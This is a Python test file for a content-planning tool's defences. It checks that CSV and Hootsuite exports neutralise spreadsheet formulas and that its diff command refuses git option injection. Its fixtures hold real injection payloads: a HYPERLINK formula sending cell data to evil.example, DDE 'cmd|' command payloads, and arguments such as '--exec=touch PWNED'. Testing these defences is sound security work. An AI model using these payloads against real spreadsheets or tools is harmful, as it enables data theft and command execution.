"""Hostile plans against the team's commands: exports opened in spreadsheets,
`plansite diff` given options as revisions, `plansite new` given values it must not write."""

from __future__ import annotations

import csv
import io
import json
import subprocess
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

import pytest

from generator import exports
from generator.changes import RevisionError, verified_commit
from generator.checking import Inputs, check_plan
from generator.spreadsheet_safety import as_text_cell, formula_start
from tests.conftest import PlanFactory, run_cli

# -- spreadsheet formulas in exports ---------------------------------------------

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "  =1+1",  # spaces before the sign
    "\u00a0=1+1",  # a no-break space
    "\u3000=1+1",  # an ideographic space
    '"=1+1',  # a quote before the sign
    " ' \" @A1",
    "\u200b=1+1",  # a zero-width space
    "\ufeff=1+1",  # a byte-order mark
    "\uff1d1+1",  # full-width =
    "\uff0b1+1",  # full-width +
    "\uff0d1+1",  # full-width -
    "\uff20A1",  # full-width @
    "\ufe661+1",  # small =
    "\tSome text",  # tab, carriage return, line feed: OWASP's first characters
    "\rSome text",
    "\nSome text",
    "\r\n=1+1",
    "\x00Some text",
]
PLAIN_TEXTS = [
    "Hello",
    "Soldes : -20 %",
    "1-2",
    "a=b",
    "sam@example.com",
    "https://shop.example/?a=1&utm_source=x",
    "2027-01-05",
    "10:00",
    "Europe/Paris",
    "",
    "« -20 % »",
    "'=1+1",  # a leading apostrophe already makes the cell text
    "Line one\n=not a cell start",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_would_run_as_a_formula_is_kept_as_text(text: str) -> None:
    assert formula_start(text)
    assert as_text_cell(text) == "'" + text


@pytest.mark.parametrize("text", PLAIN_TEXTS)
def test_plain_text_cells_are_left_as_they_are(text: str) -> None:
    assert formula_start(text) == ""
    assert as_text_cell(text) == text


def _row(**fields: str) -> exports.Row:
    defaults = dict.fromkeys(exports.Row.__dataclass_fields__, "x")
    return exports.Row(**{**defaults, **fields})


def _parsed(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("field", list(exports.Row.__dataclass_fields__))
def test_every_csv_column_is_neutralised(field: str) -> None:
    found = [_row(**{field: formula}) for formula in FORMULAS]
    header, *rows = _parsed(exports.as_csv(found))
    column = header.index(field)
    assert [row[column] for row in rows] == ["'" + formula for formula in FORMULAS]
    others = {cell for row in rows for i, cell in enumerate(row) if i != column}
    assert others == {"x"}


TRICKY_TEXTS = [
    "a\rb",
    "a\nb",
    "a\r\nb",
    "end\r",
    "\r",
    'say "hi"',
    '"',
    "a, b, c",
    "a; b; =c",
    "a\u2028b",
    "a\u2029b",
    "a\x85b",
    "=1+1",
    "=1+1\r=2+2",
    "\u00e9t\u00e9 \U0001f600",
]


def test_every_csv_row_parses_back_as_one_occurrence() -> None:
    found = [_row(title=t, copy=c) for t in TRICKY_TEXTS for c in reversed(TRICKY_TEXTS)]
    header, *rows = _parsed(exports.as_csv(found))
    assert len(rows) == len(found)
    assert all(len(row) == len(header) for row in rows)
    title, copy = header.index("title"), header.index("copy")
    assert [(r[title], r[copy]) for r in rows] == [
        (as_text_cell(row.title), as_text_cell(row.copy)) for row in found
    ]


HOSTILE_CALENDAR = """\
    posts:
      - id: link-formula
        date: 2027-03-02
        time: "10:00"
        channel: instagram
        type: tips
        title: '=HYPERLINK("https://evil.example/?"&A1,"Click")'
        copy: Fine copy
        owner: "@sam"
        link: https://shop.example/a
      - id: plus
        date: 2027-03-03
        time: "10:00"
        channel: instagram
        title: "+cmd|' /C calc'!A0"
      - id: minus
        date: 2027-03-04
        time: "10:00"
        channel: instagram
        title: "-2+3+cmd|' /C calc'!A0"
      - id: at-sign
        date: 2027-03-05
        time: "10:00"
        channel: instagram
        title: "@SUM(1+1)"
      - id: spaced
        date: 2027-03-06
        time: "10:00"
        channel: instagram
        title: "   =1+1"
      - id: quoted
        date: 2027-03-07
        time: "10:00"
        channel: instagram
        title: "\\"=1+1"
      - id: full-width
        date: 2027-03-08
        time: "10:00"
        channel: instagram
        title: "\uff1d1+1"
      - id: fine
        date: 2027-03-09
        time: "10:00"
        channel: instagram
        title: "Fine, with a comma; and a semicolon"
        copy: |
          =Second line starts with a sign
          "quoted", and more
        owner: "=owner"
        link: https://shop.example/b
    """


def test_export_csv_of_a_hostile_plan_holds_no_formula(make_plan: PlanFactory) -> None:
    root = make_plan({"plan/calendar/q1.yml": HOSTILE_CALENDAR})
    result = run_cli("export", "csv", cwd=root)
    assert result.exit_code == 0, result.output
    header, *rows = _parsed(result.stdout)
    assert len(rows) == 8
    assert not [cell for row in rows for cell in row if formula_start(cell)]
    by_title = {row[header.index("title")]: row for row in rows}
    assert by_title["'   =1+1"][header.index("date")] == "2027-03-06"
    fine = by_title["Fine, with a comma; and a semicolon"]
    assert fine[header.index("copy")] == '\'=Second line starts with a sign\n"quoted", and more\n'
    assert fine[header.index("owner")] == "'=owner"
    assert by_title["'@SUM(1+1)"][header.index("owner")] == ""
    # Every cell is quoted: a separator or a quote in a text never ends its cell.
    assert all(line.startswith('"') for line in result.stdout.splitlines() if line)


def test_export_json_keeps_the_text_as_written(make_plan: PlanFactory) -> None:
    root = make_plan({"plan/calendar/q1.yml": HOSTILE_CALENDAR})
    rows = json.loads(run_cli("export", "json", cwd=root).stdout)
    assert rows[0]["title"] == '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def test_hootsuite_leaves_out_and_names_posts_a_spreadsheet_would_run(
    make_plan: PlanFactory,
) -> None:
    root = make_plan({"plan/calendar/q1.yml": HOSTILE_CALENDAR})
    result = run_cli("export", "hootsuite", "--out", "hs", cwd=root)
    assert result.exit_code == 0, result.output
    with (root / "hs" / "instagram.csv").open(newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file))
    assert rows == [
        [
            "09/03/2027 10:00",
            "Fine, with a comma; and a semicolon\n\n"
            '=Second line starts with a sign\n"quoted", and more\n',
            "https://shop.example/b?utm_source=instagram&utm_medium=social&utm_content=fine",
        ]
    ]
    warnings = [line for line in result.stderr.splitlines() if "formula" in line]
    assert len(warnings) == 7
    assert (
        'warning: 2027-03-02 \'=HYPERLINK("https://evil.example/?"&A1,"Click")\' on instagram: '
        "left out, its title starts with '=', which a spreadsheet would run as a formula; "
        "begin the title with a letter or a digit"
    ) in warnings
    assert any(w.startswith("warning: 2027-03-08 '\uff1d1+1'") for w in warnings)


LONG_AGO = datetime(2020, 1, 1, tzinfo=UTC)  # every post is in the future


def _hootsuite_of(
    make_plan: PlanFactory, titles_and_copies: list[tuple[str, str]]
) -> tuple[list[list[str]], list[str]]:
    """Hootsuite rows and warnings of the minimal plan's post made into one post per
    (title, copy): texts the plan loader may refuse reach the export this way."""
    root = make_plan()
    checked = check_plan(Inputs(root / "plan", root / "site_config.yml"))
    (post,) = checked.plan.posts
    posts = tuple(
        replace(post, id=f"p{i:03}", title=title, copy=copy)
        for i, (title, copy) in enumerate(titles_and_copies)
    )
    files, warnings = exports.hootsuite(
        replace(checked.plan, posts=posts), checked.config, LONG_AGO
    )
    return [row for file in files for row in _parsed(file.text)], warnings


def test_hootsuite_rows_parse_back_one_per_post(make_plan: PlanFactory) -> None:
    rows, warnings = _hootsuite_of(make_plan, [(f"Title {t}", t) for t in TRICKY_TEXTS])
    assert len(rows) == len(TRICKY_TEXTS)
    assert sorted(row[1] for row in rows) == sorted(f"Title {t}\n\n{t}" for t in TRICKY_TEXTS)
    assert warnings == []


def test_hootsuite_checks_the_start_of_the_message(make_plan: PlanFactory) -> None:
    titles = [*FORMULAS, "  ", *PLAIN_TEXTS]
    rows, warnings = _hootsuite_of(make_plan, [(title, "=copy") for title in titles])
    plain = [t for t in PLAIN_TEXTS if t and not t.isspace()]
    assert [row[1].split("\n\n")[0] for row in rows] == plain
    assert len(warnings) == len(FORMULAS) + 2  # the blank title and the empty one: copy first
    assert sum("its copy starts with '='" in w for w in warnings) == 2
    assert not [cell for row in rows for cell in row if formula_start(cell)]


# -- plansite diff: revisions are verified commits, never options --------------


def git(root: Path, *args: str) -> str:
    done = subprocess.run(["git", *args], cwd=root, check=True, capture_output=True, text=True)
    return done.stdout.strip()


def _committed(root: Path) -> Path:
    git(root, "init", "-q")
    git(root, "add", "-A")
    git(root, "-c", "user.email=t@example.com", "-c", "user.name=T", "commit", "-qm", "plan")
    return root


@pytest.fixture
def repository(make_plan: PlanFactory) -> Path:
    """The minimal plan committed to git, with a file an option could overwrite."""
    root = _committed(make_plan())
    (root / "FILE").write_text("keep me\n")
    return root


@pytest.mark.parametrize(
    "arguments",
    [
        ["--", "--output=FILE"],
        ["--", "--output", "FILE"],
        ["--", "-o", "FILE"],
        ["--", "-oFILE"],
        ["--", "--remote=."],
        ["--", "--exec=touch PWNED"],
        ["--", "--list"],
        ["--", "-"],
        ["--", ""],
        ["--", "HEAD\nHEAD"],
        ["--", "HEAD\r"],
        ["--", "HEAD\t--output=FILE"],
        ["--", "--end-of-options"],
    ],
)
def test_diff_refuses_what_git_would_read_as_an_option(
    repository: Path, arguments: list[str]
) -> None:
    result = run_cli("diff", *arguments, cwd=repository)
    assert result.exit_code == 2, result.output
    assert "Traceback" not in result.output
    assert (repository / "FILE").read_text() == "keep me\n"
    assert not (repository / "PWNED").exists()
    assert sorted(p.name for p in repository.iterdir()) == [
        ".git", "FILE", "plan", "site_config.yml"
    ]  # fmt: skip


@pytest.mark.parametrize("revision", ["--output=FILE", "-oFILE", "--list", "--remote=."])
def test_only_a_verified_commit_id_reaches_git(repository: Path, revision: str) -> None:
    """Even without the command line's own check, git reads the text as a revision."""
    with pytest.raises(RevisionError, match="unknown revision"):
        verified_commit(revision, repository)
    assert (repository / "FILE").read_text() == "keep me\n"


def test_diff_names_what_is_not_a_commit(repository: Path) -> None:
    tree = git(repository, "rev-parse", "HEAD:plan")
    blob = git(repository, "rev-parse", "HEAD:site_config.yml")
    expected = {
        "no-such-revision": "error: unknown revision 'no-such-revision'",
        "HEAD x": "error: unknown revision 'HEAD x'",
        "HEAD~5": "error: unknown revision 'HEAD~5'",
        tree: f"error: '{tree}' names a folder (a git tree), not a commit",
        blob: f"error: '{blob}' names a file (a git blob), not a commit",
        "HEAD:plan": "error: 'HEAD:plan' names a folder (a git tree), not a commit",
        "HEAD^{tree}": "error: 'HEAD^{tree}' names a folder (a git tree), not a commit",
    }
    for revision, message in expected.items():
        result = run_cli("diff", revision, cwd=repository)
        assert result.exit_code == 1, result.output
        assert result.stderr == (
            f"{message} (give a branch, a tag, HEAD~1 or a commit id; "
            "`git log --oneline` lists commits)\n"
        )


def test_diff_accepts_every_way_of_naming_a_commit(repository: Path) -> None:
    git(repository, "-c", "user.email=t@example.com", "-c", "user.name=T",
        "tag", "-a", "v1", "-m", "first")  # fmt: skip
    commit = git(repository, "rev-parse", "HEAD")
    branch = git(repository, "rev-parse", "--abbrev-ref", "HEAD")
    for revision in ("HEAD", "v1", branch, commit, commit[:12], "HEAD~0", "HEAD^{commit}"):
        result = run_cli("diff", revision, cwd=repository)
        assert result.exit_code == 0, (revision, result.output)
        assert result.stdout == (
            f"nothing changed in goals, missions, accounts or posts since {revision}\n"
        )


def test_diff_with_a_config_outside_the_repository(repository: Path, tmp_path: Path) -> None:
    outside = tmp_path.parent / f"{tmp_path.name}-outside.yml"
    outside.write_text((repository / "site_config.yml").read_text())
    result = run_cli("diff", "--config", str(outside), "HEAD", cwd=repository)
    assert result.exit_code == 2, result.output
    assert "Invalid value for --config" in result.stderr
    assert "is outside the git repository of the plan" in result.stderr
    outside.unlink()


def test_diff_of_a_plan_outside_any_repository(make_plan: PlanFactory) -> None:
    root = make_plan()
    if subprocess.run(["git", "rev-parse"], cwd=root, capture_output=True).returncode == 0:
        pytest.skip("the temporary folder is inside a git repository")
    result = run_cli("diff", "HEAD", cwd=root)
    assert result.exit_code == 2, result.output
    assert "Invalid value for --plan: the plan folder plan is not in a git repository" in (
        result.stderr
    )


def test_diff_with_a_config_added_after_the_revision(repository: Path) -> None:
    (repository / "site_config.yml").rename(repository / "config.yml")
    git(repository, "add", "-A")
    git(repository, "-c", "user.email=t@example.com", "-c", "user.name=T", "commit", "-qm", "mv")
    result = run_cli("diff", "--config", "config.yml", "HEAD~1", cwd=repository)
    assert result.exit_code == 1, result.output
    assert result.stderr == (
        "error: config.yml is not in the repository at HEAD~1: compare with a later revision\n"
    )


@pytest.mark.parametrize("folder", [":(exclude)plan", "p*", ":!plan", "*"])
def test_diff_reads_plan_folders_by_their_literal_name(make_plan: PlanFactory, folder: str) -> None:
    """Folder names are paths for git, never pathspec magic."""
    root = make_plan()
    (root / "plan").rename(root / folder)
    _committed(root)
    calendar = root / folder / "calendar" / "q1.yml"
    calendar.write_text(calendar.read_text().replace("title: Hello", "title: Bye"))
    result = run_cli("diff", "--plan", folder, "HEAD", cwd=root)
    assert result.exit_code == 0, result.output
    assert result.stdout.splitlines()[1:] == ["  ~ post hello changed", "      title: Hello -> Bye"]
